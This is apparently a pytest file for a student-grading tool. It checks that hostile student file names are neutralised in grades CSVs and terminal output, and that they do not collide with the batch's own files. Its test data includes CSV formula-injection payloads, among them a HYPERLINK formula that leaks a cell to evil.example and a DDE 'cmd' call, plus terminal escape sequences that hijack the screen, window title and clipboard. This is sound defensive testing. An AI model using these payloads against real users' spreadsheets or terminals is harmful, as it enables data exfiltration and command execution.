"""What the instructor reads is safe from what students name their files: the spreadsheet, the
terminal, the student ids, and the batch's own files."""
import csv
import os
import sqlite3
import unicodedata
from pathlib import Path

import pytest

from grader.class_folder import discover
from grader.render.grades_csv import csv_cell
from grader.render.safe import terminal_text
from tests.test_batch import grade, read_grades, reference_student

ROOT = Path(__file__).resolve().parent.parent
RELU = "def relu(x):\n    return x * (x > 0)\n"


def tiny_student(folder: Path, name: str) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / f"{name}.py").write_text(RELU, encoding="utf-8")


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\tx=1", "=1+1"]


def test_ids_that_would_start_a_formula_are_escaped_in_grades_csv(tmp_path):
    folder = tmp_path / "class"
    names = [name.replace("/", "_") for name in FORMULAS]
    for name in names:
        tiny_student(folder, name)
    out = tmp_path / "out"
    grade("batch", folder, "--out", out, "--lang", "en")
    raw = (out / "grades.csv").read_text(encoding="utf-8-sig")
    rows = list(csv.reader(raw.splitlines()))
    cells = [row[0] for row in rows[1:]]
    assert sorted(cells) == sorted("'" + name for name in names)
    for row in rows[1:]:  # every text cell is safe to open; numbers are written as numbers
        assert not row[0].startswith(("=", "+", "-", "@", "\t", "\r"))
        float(row[1]), float(row[2])
    assert ',10.0,100.0,' in raw  # unquoted numbers: a spreadsheet reads them as numbers


@pytest.mark.parametrize("value, cell", [
    ("=1+1", "'=1+1"), ("+x", "'+x"), ("-x", "'-x"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("a=1", "a=1"), ("김민준", "김민준"), (-1.5, -1.5), (0.0, 0.0), (12, 12),
])
def test_csv_cells(value, cell):
    assert csv_cell(value) == cell


def test_the_same_hangul_name_in_nfc_and_nfd_is_one_student_and_the_clash_is_reported(tmp_path):
    folder = tmp_path / "class"
    nfc = "김민준"
    nfd = unicodedata.normalize("NFD", nfc)
    assert nfc != nfd
    reference_student(folder, nfc)
    tiny_student(folder / nfd, "activations")
    out = tmp_path / "out"
    run = grade("batch", folder, "--out", out, "--lang", "en")
    rows = read_grades(out)
    assert [row["student"] for row in rows] == [nfc]
    assert "one student id" in run.stderr and nfc in unicodedata.normalize("NFC", run.stderr)
    assert sorted(p.name for p in (out / "students").iterdir()) == [nfc]


def test_ids_that_differ_only_in_case_are_reported_not_merged_silently(tmp_path):
    folder = tmp_path / "class"
    tiny_student(folder / "Alice", "activations")
    tiny_student(folder / "alice", "activations")
    (folder / "ALICE.py").write_text(RELU, encoding="utf-8")
    found = discover(folder)
    assert [e.student for e in found.entries] == ["Alice"]
    assert found.collisions == [["Alice", "alice", "ALICE.py"]]
    run = grade("batch", folder, "--out", tmp_path / "out", "--lang", "en")
    assert "Alice, alice, ALICE.py" in run.stderr and "Only Alice was graded" in run.stderr


ESCAPES = ["evil\x1b[2J\x1b[H", "title\x1b]0;pwned\x07", "clip\x1b]52;c;ZWNobyBwd25lZA==\x1b\\", "bidi\u202eexe.py"]


def test_escape_sequences_in_student_names_never_reach_the_terminal(tmp_path):
    folder = tmp_path / "class"
    for name in ESCAPES:
        tiny_student(folder / name, "activations")
    (folder / "broken\x1b[31m.zip").write_bytes(b"not a zip")  # its name is in the reason too
    (folder / ".hidden\x1b[5m").write_bytes(b"")  # skipped, and listed
    run = grade("batch", folder, "--out", tmp_path / "out", "--lang", "en")
    printed = run.stdout + run.stderr
    assert "\x1b" not in printed and "\u202e" not in printed and "\x07" not in printed
    assert "evil" in printed and "broken" in printed and ".hidden" in printed


@pytest.mark.parametrize("text, shown", [
    ("a\x1b[31mred\x1b[0m", "ared"), ("x\x1b]0;title\x07y", "xy"), ("x\x1b]52;c;Zm9v\x1b\\y", "xy"),
    ("p\x9b2Jq", "pq"), ("line\nbreak\r\x00", "line break "), ("김\u202e민준", "김민준"), ("\x1bc", ""),
])
def test_terminal_text(text, shown):
    assert terminal_text(text) == shown


def test_students_named_like_the_batchs_own_files_never_collide_with_them(tmp_path):
    folder = tmp_path / "class"
    for name in ("grades.csv", "gradebook.sqlite", "index.html", "students", ".grade-batch.lock"):
        reference_student(folder, name)
    (folder / "gradebook.sqlite.zip").write_bytes(b"PK\x05\x06" + b"\0" * 18)  # an empty zip, named to collide
    out = tmp_path / "out"
    grade("batch", folder, "--out", out, "--lang", "en")
    rows = {row["student"]: row for row in read_grades(out)}
    assert {"grades.csv", "gradebook.sqlite", "index.html", "students"} <= set(rows)
    assert all(rows[name]["total"] == "100.0" for name in ("grades.csv", "gradebook.sqlite", "index.html"))
    assert (out / "grades.csv").is_file() and (out / "index.html").is_file()
    with sqlite3.connect(out / "gradebook.sqlite") as db:
        assert db.execute("PRAGMA integrity_check").fetchone() == ("ok",)
    assert (out / "students" / "gradebook.sqlite" / "report.html").is_file()
    assert (out / "students" / "students" / "report.html").is_file()
    os.stat(out / ".grade-batch.lock")  # the lock is a file of the batch's, not a student's folder
